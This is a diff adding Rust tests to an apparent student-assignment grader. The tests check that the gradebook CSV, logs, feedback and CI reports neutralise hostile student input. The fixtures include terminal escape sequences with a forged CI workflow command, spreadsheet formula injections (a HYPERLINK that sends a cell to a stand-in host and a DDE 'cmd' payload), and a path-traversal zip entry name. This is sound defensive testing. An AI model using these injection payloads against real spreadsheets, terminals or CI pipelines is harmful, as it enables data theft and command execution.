@@ -16,6 +16,43 @@ use serde_json::Value;
 
 use crate::support::{Grade, assert_code, copy_dir, labgrade, labgrade_process_of, root};
 
+/// What a hostile student's program writes to stderr: a clipboard write (OSC 52), a window title
+/// (OSC 0), a clear screen (CSI), then a carriage return before a workflow command, which a log
+/// reader that splits lines on CR would run.
+const HOSTILE_STDERR: &str =
+    "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\r::error::pwned";
+/// [`HOSTILE_STDERR`] as a person is shown it.
+const HOSTILE_STDERR_SHOWN: &str =
+    "\\u{1b}]52;c;cHduZWQ=\\u{7}\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\r::error::pwned";
+/// A program that writes [`HOSTILE_STDERR`] and a wrong sum, so that its cases fail and their
+/// stderr is shown.
+const HOSTILE_PROGRAM: &str = r#"fn main() {
+    eprintln!("\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\r::error::pwned");
+    println!("Array sum is: 1");
+}
+"#;
+
+/// `text` without labgrade's own styles (`ESC [ … m`).
+fn without_own_styles(text: &str) -> String {
+    regex::Regex::new("\u{1b}\\[[0-9;]*m")
+        .unwrap()
+        .replace_all(text, "")
+        .into_owned()
+}
+
+/// Asserts that `text` (`what`) holds no control character but line breaks.
+#[track_caller]
+fn assert_inert(what: &str, text: &str) {
+    let raw: Vec<char> = text
+        .chars()
+        .filter(|character| character.is_control() && *character != '\n')
+        .collect();
+    assert!(
+        raw.is_empty(),
+        "{what} sends {raw:?} to its reader:\n{text}"
+    );
+}
+
 /// The quick rubric of the batch tests.
 fn rubric() -> PathBuf {
     root().join("tests/fixtures/batch/sum-array.toml")
@@ -84,6 +121,16 @@ impl Class {
         let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
         gz.write_all(&tar).unwrap();
         self.raw(&format!("{id}.tar.gz"), &gz.finish().unwrap())
+    }
+
+    /// Student `id` hands in `program` as both of the rubric's programs.
+    fn program(self, id: &str, program: &str) -> Self {
+        let bin = self.path().join(id).join("src/bin");
+        std::fs::create_dir_all(&bin).unwrap();
+        for name in ["sum_array_threads.rs", "sum_array_processes.rs"] {
+            std::fs::write(bin.join(name), program).unwrap();
+        }
+        self
     }
 
     /// An entry named `name` holding `bytes`.
@@ -375,6 +422,139 @@ fn interrupted_batch_resumes_with_what_is_missing() {
     assert_code(&again, 0);
     assert_eq!(students(&again, "graded"), ["carol"]);
     assert_eq!(students(&again, "reused"), ["alice", "bob", "frank"]);
+}
+
+#[test]
+fn student_ids_and_output_are_inert_in_the_gradebook_progress_and_reports() {
+    // Folder names a spreadsheet would run as formulas (an exfiltrating link, a command),
+    // handed in empty so that they cost no build.
+    let link = "=HYPERLINK(\"http:x.example?\"&B2,\"click\")";
+    let command = "@SUM(1+1)*cmd|' -C calc'!A0";
+    // A student whose id and program both hold terminal escapes; and an archive whose bad
+    // entry's name is quoted in the progress line's note.
+    let mallory = "mallory\u{1b}]0;owned\u{7}\r::error::id";
+    let mallory_shown = "mallory\\u{1b}]0;owned\\u{7}\\r::error::id";
+    let class = Class::new()
+        .empty(link)
+        .empty(command)
+        .empty("-2+3")
+        .program(mallory, HOSTILE_PROGRAM)
+        .raw(
+            "zed.zip",
+            &zip_of(&[("../\u{1b}]0;owned\u{7}\r::error::note", b"x".as_slice())]),
+        );
+    let out = tempfile::tempdir().unwrap();
+    let output = batch(class.path(), out.path(), &[]);
+    assert_code(&output, 0);
+
+    // The gradebook: formulas are text, as OWASP says (a leading `'`, quoted); nothing else
+    // changes.
+    let csv = std::fs::read_to_string(out.path().join("gradebook.csv")).unwrap();
+    for line in [
+        "\"'=HYPERLINK(\"\"http:x.example?\"\"&B2,\"\"click\"\")\",0,100,graded,0,0,0\n",
+        "\"'@SUM(1+1)*cmd|' -C calc'!A0\",0,100,graded,0,0,0\n",
+        "\"'-2+3\",0,100,graded,0,0,0\n",
+    ] {
+        assert!(csv.contains(line), "no line {line:?} in\n{csv}");
+    }
+    let ids: Vec<String> = gradebook(out.path())
+        .into_iter()
+        .map(|row| row[0].clone())
+        .collect();
+    assert_eq!(
+        ids,
+        [
+            "'-2+3".to_owned(),
+            format!("'{link}"),
+            format!("'{command}"),
+            mallory.to_owned(),
+            "zed".to_owned(),
+        ]
+    );
+
+    // Progress and summary (piped, as in a CI log): ids and notes shown, never sent.
+    let stderr = String::from_utf8(output.stderr.clone()).unwrap();
+    assert_inert("batch progress", &stderr);
+    assert!(
+        stderr.contains(&format!("graded {mallory_shown} 0/100")),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("../\\u{1b}]0;owned\\u{7}\\r::error::note"),
+        "{stderr}"
+    );
+    assert_inert(
+        "batch summary",
+        &String::from_utf8(output.stdout.clone()).unwrap(),
+    );
+
+    // The program did write its escapes (the JSON report keeps them as they were, for
+    // programs), and the feedback file shows them, never sends them.
+    let report: Value = serde_json::from_slice(
+        &std::fs::read(out.path().join("reports").join(format!("{mallory}.json"))).unwrap(),
+    )
+    .unwrap();
+    let stderr_of_first_case = report["checks"][0]["cases"][0]["observed"]["stderr"]["text"]
+        .as_str()
+        .unwrap();
+    assert!(
+        stderr_of_first_case.contains(HOSTILE_STDERR),
+        "{stderr_of_first_case:?}"
+    );
+    let feedback =
+        std::fs::read_to_string(out.path().join("feedback").join(format!("{mallory}.txt")))
+            .unwrap();
+    assert_inert("feedback", &feedback);
+    assert!(feedback.contains(HOSTILE_STDERR_SHOWN), "{feedback}");
+    assert!(feedback.contains(mallory_shown), "{feedback}");
+
+    assert_graded_inert(&class.path().join(mallory), out.path(), mallory_shown);
+}
+
+/// Grades `submission` (mallory's) for a terminal (forced colours, as a terminal gets them) and
+/// for CI, with reports in `out`: labgrade's own styles reach the terminal, the student's
+/// escapes do not; GitHub annotations and `JUnit` carry no control character and start no command
+/// of the student's; each shows the submission's path as `shown`.
+fn assert_graded_inert(submission: &Path, out: &Path, shown: &str) {
+    let junit = out.join("junit.xml");
+    let github = out.join("github.txt");
+    let graded = labgrade()
+        .env_remove("NO_COLOR")
+        .env("CLICOLOR_FORCE", "1")
+        .arg("grade")
+        .arg(submission)
+        .arg("--rubric")
+        .arg(rubric())
+        .args(["--seed", "1"])
+        .arg("--report")
+        .arg(format!("junit={}", junit.display()))
+        .arg("--report")
+        .arg(format!("github={}", github.display()))
+        .output()
+        .unwrap();
+    assert_code(&graded, 1);
+    let human = String::from_utf8(graded.stdout).unwrap();
+    assert!(
+        human.contains("\u{1b}["),
+        "labgrade's own colours are gone:\n{human}"
+    );
+    let human = without_own_styles(&human);
+    assert_inert("the human report", &human);
+    assert!(human.contains(HOSTILE_STDERR_SHOWN), "{human}");
+    assert!(human.contains(shown), "{human}");
+    let junit = std::fs::read_to_string(&junit).unwrap();
+    assert_inert("JUnit", &junit);
+    assert!(junit.contains(shown), "{junit}");
+    let github = std::fs::read_to_string(&github).unwrap();
+    assert_inert("GitHub annotations", &github);
+    for line in github.lines() {
+        assert!(
+            ["::error ", "::warning ", "::notice "]
+                .iter()
+                .any(|start| line.starts_with(start)),
+            "a line labgrade did not mean to write: {line:?}"
+        );
+    }
 }
 
 #[test]
